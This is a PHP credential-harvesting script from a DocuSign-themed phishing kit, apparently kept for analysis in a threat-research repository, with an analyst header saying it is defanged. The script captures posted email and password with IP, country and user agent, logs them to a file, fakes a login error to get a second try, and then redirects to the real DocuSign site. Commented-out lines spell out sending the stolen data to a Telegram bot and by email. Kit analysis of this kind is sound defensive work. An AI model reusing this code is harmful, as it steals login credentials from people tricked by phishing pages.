<?php
/*
 * Recovered from an open directory on 203.0.113.19 (phishing kit "DocuSign Secure Document", 2025-04-11).
 * Kept DEFANGED in the tidepool kit-analysis repo: the mail() call and the Telegram send are commented
 * out by us; the credentials below are the operator's own and were reported to Telegram abuse + SendGrid.
 * Analyst: r.haddad — see report TP-KIT-0411.md
 */
error_reporting(0);
session_start();
include 'antibots.php';
include 'geo.php';

$ip = getenv("REMOTE_ADDR");
$ua = $_SERVER['HTTP_USER_AGENT'];
$country = visitor_country($ip);

// ====== CONFIG (operator) ======
$send_to     = "resultbox.docu2025@proton.me";
$tg_bot      = "⟦telegram_bot_token:kit⟧";
$tg_chat     = "-1002214459870";
$smtp_user   = "apikey";
$smtp_pass   = "⟦sendgrid_api_key:kit⟧";
$redirect_ok = "https://www.docusign.com/";
// ===============================

if (isset($_POST['email']) && isset($_POST['password'])) {
    $email = trim($_POST['email']);
    $pass  = trim($_POST['password']);
    $msg  = "=====+ DocuSign Login +=====\n";
    $msg .= "Email : $email\n";
    $msg .= "Pass  : $pass\n";
    $msg .= "IP    : $ip ($country)\n";
    $msg .= "UA    : $ua\n";
    $msg .= "==========================\n";

    // [defanged by tidepool] file_get_contents("https://api.telegram.org/bot$tg_bot/sendMessage?chat_id=$tg_chat&text=" . urlencode($msg));
    // [defanged by tidepool] mail($send_to, "DocuSign | $email | $country", $msg);
    $fp = fopen("rezult/" . md5($ip) . ".txt", "a");
    fwrite($fp, $msg);
    fclose($fp);

    if (!isset($_SESSION['tries'])) { $_SESSION['tries'] = 0; }
    $_SESSION['tries']++;
    if ($_SESSION['tries'] < 2) {
        header("Location: index.php?error=1&email=" . urlencode($email));
    } else {
        header("Location: $redirect_ok");
    }
    exit;
}
header("Location: index.php");
?>
